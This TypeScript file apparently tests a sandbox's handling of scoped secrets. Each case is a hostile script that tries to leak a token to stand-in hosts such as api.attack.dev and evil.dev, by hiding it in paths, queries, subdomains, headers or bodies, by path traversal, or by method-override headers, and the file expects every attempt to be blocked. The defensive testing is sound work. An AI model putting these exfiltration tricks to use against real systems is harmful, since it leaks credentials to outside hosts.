import { type Family, hostile } from './attack.ts';

const OWN = `hosts: ['api.attack.dev', 'evil.dev'], secrets: { ATTACK_TOKEN: { hosts: ['api.attack.dev'], pathPrefixes: ['/mine'] } }`;
const MISPLACED = /^fails (secret\.misplaced|outbound\.host_not_granted|request\.invalid|run\.failed)/;

/** The call is refused, not only the answer. */
const stopped = (name: string, body: string, metadata = OWN) =>
  hostile(name, `const token = secrets.ATTACK_TOKEN; ${body}; return say('sent');`, MISPLACED, metadata);

export const theft: Family = {
  name: 'on secrets, by where they stand',
  attacks: [
    stopped('puts its secret into a path', `await fetch('https://api.attack.dev/mine/' + token)`),
    stopped('puts its secret into a query', `await fetch('https://api.attack.dev/mine?t=' + token)`),
    stopped(
      'puts its secret into a query in percent signs',
      `await fetch('https://api.attack.dev/mine?t=' + [...token].map((c) => '%' + c.charCodeAt(0).toString(16)).join(''))`,
    ),
    stopped('puts its secret into a fragment', `await fetch('https://api.attack.dev/mine#' + token)`),
    stopped('puts its secret into a host', `await fetch('https://' + token + '.evil.dev/')`),
    stopped(
      'puts its secret into credentials of an address',
      `await fetch('https://' + token + ':x@api.attack.dev/mine')`,
    ),
    stopped(
      'puts its secret into the name of a header',
      `await fetch('https://api.attack.dev/mine', { headers: { [token]: 'x' } })`,
    ),
    stopped(
      'puts its secret into a body',
      `await fetch('https://api.attack.dev/mine', { method: 'POST', body: JSON.stringify({ token }), headers: { 'content-type': 'application/json' } })`,
    ),
    stopped(
      'puts its secret into a form with parts',
      `const form = new FormData(); form.append('t', token); await fetch('https://api.attack.dev/mine', { method: 'POST', body: form })`,
    ),
    stopped(
      'hides its secret behind an escape',
      `await fetch('https://api.attack.dev/mine', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"t":"' + token.replace('f', String.fromCharCode(92) + 'u0066') + token + '"}' })`,
    ),
    stopped(
      'sends its secret to another of its hosts',
      `await fetch('https://evil.dev/', { headers: { authorization: token } })`,
    ),
    stopped(
      'sends its secret to another port',
      `await fetch('https://api.attack.dev:8443/mine', { headers: { authorization: token } })`,
    ),
    stopped(
      'sends its secret to another path',
      `await fetch('https://api.attack.dev/other', { headers: { authorization: token } })`,
    ),
    stopped(
      'climbs out of the path',
      `await fetch('https://api.attack.dev/mine/..%2fother', { headers: { authorization: token } }); await fetch('https://api.attack.dev/mine/%2e%2e/other', { headers: { authorization: token } })`,
    ),
    stopped(
      'uses its secret to write',
      `await fetch('https://api.attack.dev/mine', { method: 'DELETE', headers: { authorization: token } })`,
    ),
    stopped(
      'sends Basic credentials that nobody granted',
      `await fetch('https://api.attack.dev/mine', { headers: { authorization: 'Basic ' + btoa('x:' + token) } })`,
    ),
    hostile(
      'overrules method and path in headers',
      `const r = await fetch('https://api.attack.dev/mine/headers', { headers: { authorization: secrets.ATTACK_TOKEN, 'X-HTTP-Method-Override': 'DELETE', 'X-HTTP-Method': 'DELETE', 'X-Method-Override': 'DELETE', 'X-Original-URL': '/admin', 'X-Rewrite-URL': '/admin' } }); return say(Object.keys(await r.json()).filter((name) => /override|original|rewrite|x-http-method/.test(name)).join() || 'nothing');`,
      /^says nothing$/,
      OWN,
    ),
    hostile(
      'reads a secret that it did not ask for',
      `return say(secrets.GOOD_TOKEN, secrets.constructor.GOOD_TOKEN, Object.keys(secrets), secrets.__proto__?.GOOD_TOKEN);`,
      /^says undefined\|undefined\|ATTACK_TOKEN\|undefined$/,
      OWN,
    ),
    hostile(
      'guesses names of placeholders',
      `const r = await fetch('https://api.attack.dev/mine/headers', { headers: { a: 'GOOD_TOKEN', b: '{{GOOD_TOKEN}}', c: 'INTEGRATION_GOOD_TOKEN', d: '$' + '{GOOD_TOKEN}', e: 'fp' + '0'.repeat(40) } }); return say((await r.json()).a);`,
      /^says GOOD_TOKEN$/,
      OWN,
    ),
    {
      ...hostile(
        'uses the placeholder of an earlier run',
        `const turn = (text) => [...text].reverse().join(''); const old = turn(await cache.get('t') ?? ''); await cache.set('t', turn(secrets.ATTACK_TOKEN), 60); const r = await fetch('https://api.attack.dev/mine/headers', { headers: { x: old || 'none' } }); return say((await r.json()).x === old && old !== secrets.ATTACK_TOKEN);`,
        /^says true$/,
        OWN,
      ),
      questions: [{ step: 1 }, { step: 2 }],
    },
    hostile('shows its placeholder', `return say(secrets.ATTACK_TOKEN);`, /^fails secret\.misplaced/, OWN),
    hostile(
      'logs and throws its placeholder',
      `logger.info(secrets); throw new Error(secrets.ATTACK_TOKEN)`,
      /^fails run\.failed/,
      OWN,
    ),
  ],
};
